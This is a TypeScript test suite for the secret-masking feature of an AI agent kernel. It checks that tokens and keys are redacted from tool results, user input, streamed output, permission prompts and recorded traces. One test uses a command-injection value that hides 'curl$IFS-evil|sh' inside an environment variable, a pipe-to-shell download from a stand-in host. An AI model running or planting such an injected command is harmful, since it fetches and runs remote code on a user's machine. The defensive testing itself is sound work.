import assert from 'node:assert/strict';
import { createSecrets, definePlugin, defineTool, type Message, type ModelEvent, type ModelRequest, type Question, replaySitting, type Secrets, type TurnEvent } from '@pith/kernel';
import { allowAll, createTestKernel, type TestKernel } from '@pith/kernel/testing';

const KEY = 'ghp_aB3dE6gH9jK2mN5pQ8sT1vW4yZ7aB3dE6gH9';
const VALUE = 'tr0ub4dor&"3"/x';
const MASK = '[secret:GitHub token]';

function known(): Secrets {
  const secrets = createSecrets();
  secrets.add(VALUE, 'MY_KEY');
  return secrets;
}

/** A tool that answers with what it was asked to, and keeps what it got. */
function echo(got: unknown[] = [], effect: 'read' | 'write' = 'read') {
  return definePlugin({
    name: 'echo', tools: [defineTool<{ text: string }>({
      name: 'echo', description: 'x', effect, inputSchema: { type: 'object', properties: { text: { type: 'string' } } }, targets: () => [{ family: 'Edit', path: '/x' }],
      execute: async (input) => { got.push(input); return { content: [{ type: 'text', text: `${input.text} ${KEY} ${VALUE}` }], details: { raw: KEY } }; },
    })],
  });
}

/** A provider that yields exactly these events, and keeps the requests. */
function provider(streams: readonly (readonly ModelEvent[])[], requests: ModelRequest[] = []) {
  let call = 0;
  return definePlugin({
    name: 'exact', providers: [{ name: 'exact', models: ['m'], load: async () => ({ async* stream(request) { requests.push(request); yield* streams[call++]!; } }) }],
  });
}

function reply(...blocks: readonly Message['content'][number][]): ModelEvent {
  return { type: 'end', reply: { status: 'complete', id: null, model: 'm', stop: 'end', usage: { input: 1, output: 1 }, blocks } };
}

function assertClean(...values: readonly unknown[]): void {
  for (const value of values) {
    const text = JSON.stringify(value);
    for (const secret of [KEY, VALUE, JSON.stringify(VALUE).slice(1, -1), JSON.stringify(JSON.stringify(VALUE)).slice(3, -3)]) assert.ok(!text.includes(secret), text.slice(Math.max(0, text.indexOf(secret) - 200), text.indexOf(secret) + 100));
  }
}

async function run(plugins: Parameters<typeof createTestKernel>[0], text = 'go'): Promise<TestKernel & { result: Awaited<ReturnType<TestKernel['session']['runTurn']>> }> {
  const test = await createTestKernel({ secrets: known(), ...plugins });
  const result = await test.session.runTurn({ text });
  await test.close();
  return { ...test, result };
}

describe('secrets', () => {
  it('in the result of a tool reach neither the model, nor the history, nor an event', async () => {
    const requests: ModelRequest[] = [];
    const call = { type: 'tool-call', id: 'c', name: 'echo', input: { text: 'hi' }, complete: true } as const;
    const { session, events, result } = await run({ plugins: [allowAll, echo(), provider([[reply(call)], [reply({ type: 'text', text: 'done' })]], requests)] });
    assert.equal(result.status, 'done');
    assertClean(events, requests, session.messages, session.lastTrace);
    assert.match(JSON.stringify(requests[1]!.messages), /hi \[secret:GitHub token\] \[secret:MY_KEY\]/);
  });

  it('in what a person typed are masked before anything reads it, and the person is told', async () => {
    const requests: ModelRequest[] = [];
    const seen: string[] = [];
    const tap = definePlugin({ name: 'tap', setup({ hooks }) { hooks.input.tap('t', (input) => { seen.push(input.text); }); } });
    const { events } = await run({ plugins: [tap, provider([[reply({ type: 'text', text: 'ok' })]], requests)] }, `use ${KEY} and ${VALUE}`);
    assert.deepEqual(seen, [`use ${MASK} and [secret:MY_KEY]`]);
    assertClean(events, requests);
    assert.equal(events.filter((event) => event.type === 'notice' && event.code === 'SECRET_MASKED').length, 1);
  });

  it('that an input tap brings in are masked, too', async () => {
    const requests: ModelRequest[] = [];
    const tap = definePlugin({ name: 'tap', setup({ hooks }) { hooks.input.tap('t', (input) => ({ ...input, text: `${input.text} ${VALUE}` })); } });
    const { events } = await run({ plugins: [tap, provider([[reply({ type: 'text', text: 'ok' })]], requests)] });
    assertClean(events, requests);
    assert.ok(events.some((event) => event.type === 'notice' && event.code === 'SECRET_MASKED'));
  });

  it('that a context tap, a model wrap or a plugin’s own call puts into a request are not sent', async () => {
    const requests: ModelRequest[] = [];
    const tap = definePlugin({
      name: 'tap', setup({ hooks }) {
        hooks.context.tap('c', async (request, turn) => {
          await turn.callModel({ messages: [{ role: 'user', content: [{ type: 'text', text: KEY }] }] }, { purpose: 'own' });
          return { ...request, system: [{ id: 's', owner: 'tap', stability: 'stable', text: `the key is ${VALUE}` }] };
        });
        hooks.model.tap('m', (next) => (request, turn) => next({ ...request, messages: [...request.messages, { role: 'user', content: [{ type: 'text', text: KEY }] }] }, turn));
      },
    });
    const answer = [reply({ type: 'text', text: 'ok' })];
    const { events } = await run({ plugins: [tap, provider([answer, answer], requests)] });
    assert.equal(requests.length, 2);
    assertClean(events, requests);
  });

  it('in the history of a resumed session are not sent', async () => {
    const requests: ModelRequest[] = [];
    const history: Message[] = [{ role: 'user', content: [{ type: 'text', text: KEY }] }, { role: 'assistant', content: [{ type: 'text', text: VALUE }] }];
    await run({ plugins: [provider([[reply({ type: 'text', text: 'ok' })]], requests)], session: { history } });
    await run({ plugins: [provider([[reply({ type: 'text', text: 'ok' })]], requests)], session: { history, historyIsKept: true } });
    assert.equal(requests.length, 2);
    assertClean(requests);
  });

  it('leave the headers of a request alone', async () => {
    const requests: ModelRequest[] = [];
    await run({ plugins: [provider([[reply({ type: 'text', text: 'ok' })]], requests)], session: { modelOptions: { headers: { 'x-key': KEY } } } });
    assert.equal(requests[0]!.options.headers?.['x-key'], KEY);
  });

  for (const type of ['text-delta', 'thinking-delta'] as const) {
    it(`spread over two ${type}s are masked, wherever they are cut`, async () => {
      const said = `Say ${VALUE} and ${KEY} now`;
      const block = { type: type === 'text-delta' ? 'text' : 'thinking', text: said } as const;
      for (let cut = 0; cut <= said.length; cut++) {
        const stream: ModelEvent[] = [{ type, index: 0, text: said.slice(0, cut) }, { type, index: 0, text: said.slice(cut) }, { type: 'block', index: 0, block }, reply(block, { type: 'text', text: 'x' })];
        const { events } = await run({ plugins: [provider([stream])] });
        assertClean(events);
        assert.equal(events.map((event) => (event.type === type ? event.text : '')).join(''), `Say [secret:MY_KEY] and ${MASK} now`, `cut at ${cut}`);
      }
    });
  }

  it('held back at the end of a stream that breaks are said before its error', async () => {
    const broken = definePlugin({
      name: 'broken', providers: [{ name: 'broken', models: ['m'], load: async () => ({ async* stream() { yield { type: 'text-delta', index: 0, text: 'a word and ghp_a' } as const; throw new Error(`lost ${KEY}`); } }) }],
    });
    const { events, result } = await run({ plugins: [broken] });
    assert.equal(events.map((event) => (event.type === 'text-delta' ? event.text : '')).join(''), 'a word and ghp_a');
    assert.equal(result.error?.code, 'PROVIDER_FAILED');
    assertClean(events, result);
  });

  it('in the input of a call are masked in events, questions and history, and the call runs as it was made', async () => {
    const got: unknown[] = [];
    const requests: ModelRequest[] = [];
    const questions: Question[] = [];
    const input = { text: `curl -H ${KEY}; x ${VALUE}` };
    const json = JSON.stringify(input);
    const call = { type: 'tool-call', id: 'c', name: 'echo', input, complete: true } as const;
    const deltas = json.match(/.{1,3}/g)!.map((piece): ModelEvent => ({ type: 'tool-input-delta', index: 0, id: 'c', name: 'echo', json: piece }));
    const { events, session } = await run({
      plugins: [echo(got, 'write'), provider([[...deltas, { type: 'block', index: 0, block: call }, reply(call)], [reply({ type: 'text', text: 'ok' })]], requests)],
      session: { asker: async (question) => { questions.push(question); return { verdict: 'allow' }; } },
    });
    assert.deepEqual(got, [input]);
    assertClean(events, requests, questions, session.messages);
    assert.deepEqual(JSON.parse(events.map((event) => (event.type === 'tool-input-delta' ? event.json : '')).join('')), { text: `curl -H ${MASK}; x [secret:MY_KEY]` });
    assert.equal(questions.length, 1);
  });

  it('never hide from a person what a shell would run', async () => {
    const questions: Question[] = [];
    const command = 'API_TOKEN="a1b2c3d4;curl$IFS-evil|sh" true';
    const tool = definePlugin({ name: 'shell', tools: [defineTool({ name: 'shell', description: 'x', effect: 'exec', inputSchema: {}, targets: () => [{ family: 'Bash', command }], execute: async () => 'ran' })] });
    const call = { type: 'tool-call', id: 'c', name: 'shell', input: {}, complete: true } as const;
    await run({ plugins: [tool, provider([[reply(call)], [reply({ type: 'text', text: 'ok' })]])], session: { asker: async (question) => { questions.push(question); return { verdict: 'deny' }; } } });
    assert.equal(questions[0]?.body, command);
  });

  it('in the question about a call are masked in all of it, and no rule with one is offered for good', async () => {
    const questions: Question[] = [];
    const call = { type: 'tool-call', id: 'c', name: 'edit', input: {}, complete: true } as const;
    const tool = definePlugin({
      name: 'edit', tools: [defineTool({ name: 'edit', description: 'x', effect: 'write', inputSchema: {}, targets: () => [{ family: 'Edit', path: '/a' }], preview: async () => `-KEY=${KEY}\n+KEY=${VALUE}`, execute: async () => 'ran' })],
      setup({ hooks }) { hooks.permission.tap('edit', () => ({ verdict: 'ask', reason: `because of ${KEY}`, suggestion: `Bash(make ${VALUE})`, always: [[`Bash(make ${VALUE})`], ['Bash(make:*)', `Bash(x ${KEY})`], ['Bash(make:*)']] })); },
    });
    await run({ plugins: [tool, provider([[reply(call)], [reply({ type: 'text', text: 'ok' })]])], session: { asker: async (question) => { questions.push(question); return { verdict: 'deny' }; } } });

    assertClean(questions);
    assert.deepEqual([questions[0]?.diff?.includes('secret:'), questions[0]?.always], [true, [['Bash(make:*)']]]);
  });

  it('masks in the input of a call that changes something refuse it, and the tool does not run', async () => {
    const got: unknown[] = [];
    const call = (text: string) => ({ type: 'tool-call', id: text, name: 'echo', input: { text }, complete: true }) as const;
    const { events } = await run({ plugins: [allowAll, echo(got, 'write'), provider([[reply(call(`KEY=${MASK}`), call('KEY=1'))], [reply({ type: 'text', text: 'ok' })]])] });
    assert.deepEqual(got, [{ text: 'KEY=1' }]);
    const ends = events.filter((event) => event.type === 'tool-end');
    assert.deepEqual(ends.map(({ status, error }) => [status, error?.code]), [['error', 'SECRET_MASKED'], ['done', undefined]]);
    assert.match(JSON.stringify(ends[0]!.content), /Not run: the input of echo holds \[secret:GitHub token\].*by name/);
  });

  it('masks in the input of a call that only reads are let through', async () => {
    const got: unknown[] = [];
    const call = { type: 'tool-call', id: 'c', name: 'echo', input: { text: MASK }, complete: true } as const;
    await run({ plugins: [allowAll, echo(got), provider([[reply(call)], [reply({ type: 'text', text: 'ok' })]])] });
    assert.deepEqual(got, [{ text: MASK }]);
  });

  it('in thinking take its signature with them, so that nothing is sent that the vendor would refuse', async () => {
    const thinking = { type: 'thinking', text: `I saw ${KEY}`, signature: 'sealed' } as const;
    const { session } = await run({ plugins: [provider([[reply(thinking, { type: 'thinking', text: 'fine', signature: 'sealed' }, { type: 'text', text: 'ok' })]])] });
    assert.deepEqual(session.messages[1]!.content, [{ type: 'thinking', text: `I saw ${MASK}` }, { type: 'thinking', text: 'fine', signature: 'sealed' }, { type: 'text', text: 'ok' }]);
  });

  it('in errors, hints, reasons, notices, progress and plugins’ own events are masked', async () => {
    const plugin = definePlugin({
      name: 'loud', tools: [defineTool({
        name: 'loud', description: 'x', effect: 'read', inputSchema: {},
        execute: async (_, { turn, progress }) => {
          for (const piece of [`so far ${KEY.slice(0, 9)}`, KEY.slice(9), ' more']) progress(piece, { at: VALUE });
          turn.emit({ type: 'notice', level: 'info', text: `a notice of ${VALUE}` });
          turn.emit({ type: 'plugin-event', name: 'e', data: { [KEY]: VALUE } });
          throw new Error(`failed with ${KEY}`);
        },
      })],
      setup({ hooks }) { hooks.permission.tap('p', () => ({ verdict: 'allow', reason: `because of ${VALUE}`, rule: `Bash(${KEY})` })); hooks.output.tap('o', () => { throw new Error(VALUE); }); },
      capabilities: ['permission:allow'],
    });
    const call = { type: 'tool-call', id: 'c', name: 'loud', input: {}, complete: true } as const;
    const { events, result, session, kernel } = await run({ plugins: [plugin, provider([[reply(call)], [{ type: 'text-delta', index: 0, text: 'x' }, { type: 'end', reply: { status: 'error', id: null, model: null, stop: null, blocks: [], usage: null, error: { type: 't', message: KEY } } }]])] });
    assertClean(events, result, session.messages, kernel.troubles);
    assert.equal(events.map((event) => (event.type === 'tool-progress' ? event.text : '')).join(''), `so far ${MASK} more`);
  });

  it('are in no trace that is kept, and in nothing that is recorded, so that a replay comes out the same', async () => {
    const outside: unknown[] = [];
    const events: TurnEvent[] = [];
    const traces: unknown[] = [];
    const recorder = definePlugin({ name: 'rec', setup({ hooks }) { hooks.output.tap({ name: 'r', durable: true, records: true }, (event, came) => { events.push(event); outside.push(...came); }); } });
    const changer = definePlugin({ name: 'changer', setup({ hooks }) { hooks.tool.tap({ name: 'c', zone: 'prepare' }, (next) => (call, turn) => next({ ...call, input: { text: `changed ${KEY}` } }, turn)); hooks.input.tap('t', async (input, turn) => ({ ...input, text: await turn.recorded('k', () => `go ${VALUE}`) })); } });
    const said = `It is ${VALUE} or ${KEY} I think`;
    const call = { type: 'tool-call', id: 'c', name: 'echo', input: { text: `a ${KEY}` }, complete: true } as const;
    const streams: ModelEvent[][] = [
      [...said.match(/.{1,4}/g)!.map((text): ModelEvent => ({ type: 'text-delta', index: 0, text })), { type: 'block', index: 0, block: { type: 'text', text: said } }, { type: 'block', index: 1, block: call }, reply({ type: 'text', text: said }, call)],
      [reply({ type: 'tool-call', id: 'd', name: 'echo', input: { text: MASK }, complete: true })], [reply({ type: 'text', text: said })],
    ];
    const plugins = [allowAll, echo([], 'write'), changer, recorder, provider(streams)];
    await run({ plugins, keepTrace: (trace) => { traces.push(trace); } }, `first ${KEY}`);
    assertClean(events, outside, traces);
    const replay = await createTestKernel({ plugins, secrets: known() });
    const heard = await replaySitting(replay.kernel, { events, outside: outside as never });
    await replay.close();
    assert.deepEqual([heard.difference, heard.events], [null, events.length]);
  });

  it('that a plugin learns of are hidden from then on', async () => {
    const plugin = definePlugin({ name: 'keeper', setup({ secrets }) { assert.equal(secrets.add('from-the-vault-1', 'vaulted'), true); assert.equal(secrets.redact('a from-the-vault-1'), 'a [secret:vaulted]'); } });
    const { events } = await run({ plugins: [plugin, provider([[reply({ type: 'text', text: `it is from-the-vault-1 and ${encodeURIComponent('from-the-vault-1')}` })]])] });
    assert.ok(!JSON.stringify(events).includes('from-the-vault-1'));
  });
});
